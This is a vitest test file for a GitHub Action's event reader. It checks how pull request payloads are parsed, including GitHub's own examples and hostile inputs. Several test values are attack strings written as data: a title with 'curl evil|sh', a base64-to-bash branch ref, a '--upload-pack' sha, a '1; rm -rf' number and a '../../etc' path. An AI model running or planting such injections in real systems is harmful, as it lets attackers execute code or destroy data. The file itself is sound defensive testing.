/** What a workflow's event says, on GitHub's own example payloads and on hostile ones. */
import { mkdir, truncate, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { UserError } from '../../../src/errors.ts';
import { readSubject } from '../../../src/world/records/event.ts';
import { gitHubState } from '../../support/github-state.ts';
import { eventOf, exampleOf, examplesOf, type Payload } from '../../support/payloads.ts';
import { createFolder } from '../../support/repo.ts';

let folder: Awaited<ReturnType<typeof createFolder>>;
let file: string;
beforeAll(async () => {
  folder = await createFolder();
  file = join(folder.directory, 'event.json');
});
afterAll(() => folder[Symbol.asyncDispose]());

interface Given {
  readonly event?: string;
  readonly payload?: unknown;
  readonly base?: string;
  readonly head?: string;
}

async function read({ event = 'pull_request', payload = {}, base = '', head = '' }: Given) {
  await writeFile(file, typeof payload === 'string' ? payload : JSON.stringify(payload));
  return readSubject({
    env: { GITHUB_EVENT_NAME: event, GITHUB_EVENT_PATH: file, GITHUB_REPOSITORY: 'octo/shop' },
    base,
    head,
  });
}

async function readPull(given: Given) {
  const subject = await read(given);
  if (subject.kind !== 'pull-request') throw new Error('no pull request');
  return subject.pull;
}

const labeled = () => exampleOf('pull_request', 'labeled');

/** A payload with parts of its pull request replaced. */
const withPull = (parts: Readonly<Record<string, unknown>>): unknown => ({
  ...labeled(),
  pull_request: { ...labeled().pull_request, ...parts },
});

describe('an event that holds a pull request', () => {
  test('is read in full', async () => {
    expect(await readPull({ payload: labeled() })).toEqual({
      repository: 'Codertocat/Hello-World',
      number: 2,
      targetBranch: 'master',
      target: 'f95f852bd8fca8fcc58a9a2d6c842781e32a215e',
      head: 'ec26c3e57ca3a959ca5aad62de7213c562f8c821',
      branch: 'changes',
      title: 'Update the README with new information.',
      body: 'This is a pretty simple change that we need to pull into master.',
      opener: { login: 'Codertocat', id: 21031067, kind: 'person' },
      labels: ['bug'],
      headRepository: 'Codertocat/Hello-World',
      push: null,
    });
  });

  const examples = ['pull_request', 'pull_request_review'].flatMap((event) =>
    examplesOf(event).map((payload, index): [string, string, Payload] => [
      `${event} ${payload.action} (${index})`,
      event,
      payload,
    ]),
  );
  test.each(examples)('is understood as GitHub sends it: %s', async (_, event, payload) => {
    const pull = await readPull({ event, payload });
    expect(pull).toMatchObject({
      repository: 'Codertocat/Hello-World',
      number: 2,
      head: payload.pull_request.head['sha'],
    });
    expect(pull.labels).toEqual(payload.pull_request.labels.map(({ name }) => name));
  });

  test('says the same when it is a pull_request_target', async () => {
    expect(await readPull({ event: 'pull_request_target', payload: labeled() })).toEqual(
      await readPull({ payload: labeled() }),
    );
  });

  test('does not need the repository that it comes from: the fork may be deleted', async () => {
    const pull = await readPull({
      payload: withPull({ head: { ...labeled().pull_request.head, repo: null, user: null } }),
    });
    expect(pull.head).toBe('ec26c3e57ca3a959ca5aad62de7213c562f8c821');
  });

  test('may have no body, no opener and no list of labels', async () => {
    const pull = await readPull({ payload: withPull({ body: null, user: null, labels: undefined }) });
    expect(pull).toMatchObject({ body: null, opener: null, labels: null });
  });

  test.each([
    ['Bot', 'bot'],
    ['User', 'person'],
    ['Mannequin', 'unknown'],
    [undefined, 'unknown'],
  ])('tells what kind of account opened it: %s is %s', async (type, kind) => {
    const pull = await readPull({ payload: withPull({ user: { login: 'x', id: 7, type } }) });
    expect(pull.opener).toEqual({ login: 'x', id: 7, kind });
  });

  test('keeps hostile text as it is', async () => {
    const title = '"; curl evil|sh # $\u007b{ secrets.X }}\n::error::';
    const ref = 'a";{echo,aGk=}|{base64,-d}|bash;"';
    const pull = await readPull({ payload: withPull({ title, head: { ...labeled().pull_request.head, ref } }) });
    expect(pull).toMatchObject({ title, branch: ref });
  });

  test('that is dressed by the stand-in is one too', async () => {
    const state = gitHubState({ labels: ['canary'] });
    const pull = await readPull({ payload: eventOf('pull_request', 'labeled', 'octo/shop', state.pull) });
    expect(pull).toMatchObject({
      repository: 'octo/shop',
      number: 12,
      labels: ['canary'],
      opener: { login: 'dana', id: 501 },
    });
  });
});

describe('an event that is of no use is refused in words', () => {
  const refusal = (given: Given) =>
    read(given).then(
      () => 'accepted',
      (error: unknown) => (error instanceof UserError ? error.message : `no UserError: ${error}`),
    );

  test.each(['push', 'merge_group', 'issue_comment', 'workflow_run', 'schedule', ''])('%s', async (event) => {
    expect(await refusal({ event, payload: examplesOf(event)[0] ?? {} })).toBe(
      `The event \`${event}\` holds no pull request: run on \`pull_request\`, \`pull_request_target\`, \`pull_request_review\`, or give the inputs \`base\` and \`head\``,
    );
  });

  test.each([
    [
      'a head that is no object name',
      withPull({ head: { ref: 'x', sha: '--upload-pack=x' } }),
      'pull_request.head.sha',
    ],
    ['a number that is none', withPull({ number: '1; rm -rf' }), 'pull_request.number'],
    ['a repository that is none', { ...labeled(), repository: { full_name: '../../etc' } }, 'repository.full_name'],
    ['no pull request', { ...labeled(), pull_request: undefined }, 'pull_request'],
    ['an array', [], ''],
  ])('%s', async (_, payload, place) => {
    expect(await refusal({ payload })).toMatch(`The event is not understood at \`${place}\``);
  });

  test('a payload that is no JSON', async () => {
    expect(await refusal({ payload: '{' })).toBe(`The event in \`${file}\` is no JSON`);
  });

  test('a payload that is larger than GitHub sends', async () => {
    await writeFile(file, '');
    await truncate(file, 26 * 1024 * 1024);
    const env = { GITHUB_EVENT_NAME: 'pull_request', GITHUB_EVENT_PATH: file };
    await expect(readSubject({ env, base: '', head: '' })).rejects.toThrow(/it has 27262976 bytes, more than 26214400/);
  });

  test('a payload that is a folder, or not there', async () => {
    const path = join(folder.directory, 'folder');
    await mkdir(path);
    for (const GITHUB_EVENT_PATH of [path, join(path, 'nothing')]) {
      const subject = readSubject({
        env: { GITHUB_EVENT_NAME: 'pull_request', GITHUB_EVENT_PATH },
        base: '',
        head: '',
      });
      await expect(subject).rejects.toThrow(UserError);
    }
  });
});

describe('a range given by the inputs', () => {
  test.each(['push', 'merge_group', 'schedule', 'pull_request'])(
    'is the subject, whatever the event: %s',
    async (event) => {
      expect(await read({ event, payload: '{', base: 'main', head: 'topic' })).toEqual({
        kind: 'range',
        repository: 'octo/shop',
        base: 'main',
        head: 'topic',
      });
    },
  );

  test.each([{ base: 'main' }, { head: 'topic' }])('needs both ends: %o', async (given) => {
    await expect(read({ payload: labeled(), ...given })).rejects.toThrow(/give both, or neither/);
  });
});
